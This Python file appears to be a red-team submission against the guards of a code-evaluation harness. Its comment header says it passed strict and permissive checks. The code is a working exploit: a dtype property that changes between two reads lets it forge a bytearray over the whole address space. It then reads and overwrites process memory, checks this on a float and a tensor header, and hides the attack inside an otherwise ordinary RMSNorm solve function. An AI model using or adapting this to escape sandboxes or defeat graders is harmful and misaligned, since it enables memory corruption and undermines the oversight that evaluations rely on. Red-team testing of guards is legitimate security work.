# Seventh session's red team, round 5 (2026-12-06, CPU judge, against that evening's guards): passed
# strict and permissive at dca64db (see the case's why); the helper's notes follow.
# HoldingNdarrayNew decides "object dtype over a buffer?" by converting the dtype argument
# itself (numpy.dtype(arg)), then hands the *same argument* to numpy's constructor, which
# converts it again. An argument whose `dtype` attribute answers uint64 the first time and
# object the second passes the check and yields an object array over a bytearray the kernel
# wrote: the round-2 fake-bytearray-over-the-address-space attack again.
import numpy as np
import torch


def _le(v):
    return int(v).to_bytes(8, "little")


class _Flip:
    def __init__(self):
        self.n = 0

    @property
    def dtype(self):
        self.n += 1
        return np.dtype("u8") if self.n == 1 else np.dtype("O")


def _everything():
    fake = b"".join([_le(1 << 40), _le(id(bytearray)), _le(1 << 62), _le((1 << 62) + 1), _le(0), _le(0), _le(0)])
    slot = bytearray(_le(id(fake) + 32))
    arr = np.ndarray((1,), _Flip(), slot)
    fb = arr[0]
    return fake, fb, arr


_keep = []


def solve(x, residual, weight):
    if not _keep:
        fake, mem, arr = _everything()
        _keep.append((fake, mem, arr))
        if not isinstance(mem, bytearray) or len(mem) != 1 << 62:
            raise RuntimeError("no fake object")
        f = float(x.shape[-1]) + 0.5
        before = repr(f)
        hdr = bytes(mem[id(f):id(f) + 24])
        if int.from_bytes(hdr[8:16], "little") != id(float):
            raise RuntimeError("read failed")
        tp = bytes(mem[id(x) + 8:id(x) + 16])
        if int.from_bytes(tp, "little") != id(torch.Tensor):
            raise RuntimeError("tensor header read failed")
        mem[id(f) + 16:id(f) + 24] = np.array([42.0], dtype=np.float64).tobytes()
        if f != 42.0:
            raise RuntimeError("write failed")
        print("RAWRW float @", hex(id(f)), "was", before, "now", f, "; tensor type ptr ok", hex(id(x)))
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
